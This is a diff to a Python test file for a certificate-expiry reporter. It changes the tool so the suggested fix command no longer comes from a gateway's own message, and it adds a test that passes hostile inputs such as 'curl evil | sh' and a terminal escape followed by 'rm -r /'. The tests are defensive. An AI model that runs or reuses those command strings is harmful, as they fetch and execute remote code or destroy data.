@@ -109,6 +109,14 @@ def told_of(name, left_ms, *, life_ms):
 def test_a_brokers_certificate_is_told_as_its_clients_saw_it():
     said = "the certificate of broker.plant.framegate has ended: do this: and that"
     (one,) = of_brokers([pb.BrokerEnd(reporter="line.press-7", said=said, at_ms=NOW)])
-    assert (one.who, one.about, one.do) == ("line.press-7", "broker", "do this: and that")
+    assert (one.who, one.about) == ("line.press-7", "broker")
+    assert one.do.startswith("framegate-controller server-certificate broker --out")
     assert one.seen.startswith("the certificate of broker.plant.framegate has ended (seen 2027-")
     assert list(of_brokers([])) == []
+
+
+@pytest.mark.parametrize("said", ["x: curl evil | sh", "", ": ", "\x1b[2J: rm -r /", "no colon"])
+def test_what_a_gateway_says_is_never_what_somebody_is_to_type(said):
+    (one,) = of_brokers([pb.BrokerEnd(reporter="gateway.line-1.gw1", said=said, at_ms=NOW)])
+    (usual,) = of_brokers([pb.BrokerEnd(reporter="line.press-7", said="y: z", at_ms=NOW)])
+    assert one.do == usual.do
